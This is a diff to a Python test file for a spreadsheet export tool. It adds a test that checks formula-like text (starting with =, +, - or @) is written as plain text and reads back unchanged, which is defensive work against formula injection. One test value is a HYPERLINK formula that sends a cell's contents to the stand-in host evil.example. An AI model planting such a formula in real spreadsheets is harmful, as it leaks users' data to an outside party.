@@ -13,7 +13,8 @@ from pathlib import Path
 import openpyxl
 import pytest
 
-from scripts.package import load_package
+from scripts.package import csv_text, load_package, read_rows
+from scripts.xlsx.read.importer import import_workbook
 from scripts.xlsx.state import STATE_SHEET, fingerprint
 from scripts.xlsx.write.export import ExportError, export_workbook
 from scripts.xlsx.write.guide import README_SHEET
@@ -152,6 +153,38 @@ def test_control_character_is_refused_and_nothing_written(tmp_path):
     with pytest.raises(ExportError, match=r"^states.csv row 2, field name: the value .*U\+001B"):
         export_workbook(load_package(pkg), dest)
     assert not dest.exists() and list(tmp_path.glob(".*tmp*")) == []
+
+
+FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?leak="&A2,"click")', "+7 701 000 00 00", "-5 degrees",
+                "@mention"]
+
+
+def _with_formula_like_texts(tmp_path: Path) -> Path:
+    """A package whose first topics' descriptions start as a spreadsheet formula would."""
+    pkg = copy_package(tmp_path / "pkg")
+    table = load_package(pkg).table("topics")
+    rows = read_rows(table)
+    for row, text in zip(rows, FORMULA_LIKE, strict=False):
+        row["description"] = text
+    table.path.write_text(csv_text(table, rows), encoding="utf-8")
+    return pkg
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text_and_reads_back_unchanged(tmp_path):
+    """Text is always an inline string: a cell starting with =, +, - or @ is never a formula in the
+    workbook, and the import reads it back as the same text (no table changes)."""
+    pkg = _with_formula_like_texts(tmp_path)
+    dest = export(pkg, tmp_path / "w.xlsx")
+    sheet = next(xml for xml in _parts(dest).values() if "<t>@mention</t>" in xml)
+    assert "<f>" not in sheet and "<f " not in sheet
+    ws = openpyxl.load_workbook(dest)["topics"]
+    column = column_of(ws, "description")
+    cells = [ws.cell(r, column) for r in range(2, 2 + len(FORMULA_LIKE))]
+    assert [(c.value, c.data_type) for c in cells] == [(text, "s") for text in FORMULA_LIKE]
+    before = (pkg / "tables" / "topics.csv").read_bytes()
+    result = import_workbook(pkg, dest, None)
+    assert (result.problems, result.changed) == ([], [])
+    assert (pkg / "tables" / "topics.csv").read_bytes() == before
 
 
 def _run_export(pkg: Path, dest: Path, inject: str = "") -> subprocess.CompletedProcess[str]:
